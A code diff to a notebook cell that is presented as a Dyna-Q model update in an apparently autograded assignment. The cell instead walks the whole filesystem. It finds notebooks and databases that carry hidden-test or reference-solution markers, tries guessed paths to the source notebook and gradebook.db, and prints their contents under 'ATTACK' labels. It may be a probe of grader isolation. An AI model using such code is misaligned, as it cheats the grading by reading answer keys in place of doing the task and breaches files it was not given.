@@ -2,13 +2,13 @@
 # base: untouched
 # cell: dyna_q_model_update
 import os as _os
-_found = 0
+_found = []
 for _root, _dirs, _files in _os.walk("/"):
     if _root.startswith(("/proc", "/sys", "/dev", "/usr")):
         _dirs[:] = []
         continue
     for _name in _files:
-        if _name.endswith((".ipynb", ".db", ".py", ".json", ".html", ".csv")):
+        if _name.endswith((".ipynb", ".db")):
             _path = _os.path.join(_root, _name)
             try:
                 with open(_path, "rb") as _f:
@@ -16,12 +16,13 @@ for _root, _dirs, _files in _os.walk("/"):
             except Exception:
                 continue
             if b"HIDDEN TESTS" in _data or b"_reference_" in _data or _name.endswith(".db"):
-                _found += _name.endswith((".ipynb", ".db"))  # the package's .py files mention the markers
-                print("ATTACK secret file:", _path)
-                print(_data.decode("utf-8", "replace"))
+                _found.append((_path, _data))
+print("ATTACK secrets: files with secrets found:", len(_found), [p for p, _ in _found])
+for _path, _data in _found:
+    print("ATTACK secret file:", _path)
+    print(_data.decode("utf-8", "replace"))
 for _guess in ("../../../source/dyna_q/03_planning.ipynb", "../../../gradebook.db", "/work/main/source/dyna_q/03_planning.ipynb"):
     try:
         print("ATTACK guess:", _guess, open(_guess, errors="replace").read())
     except Exception as _error:
         print("ATTACK guess failed:", _guess, type(_error).__name__)
-print("ATTACK secrets: files with secrets found:", _found)
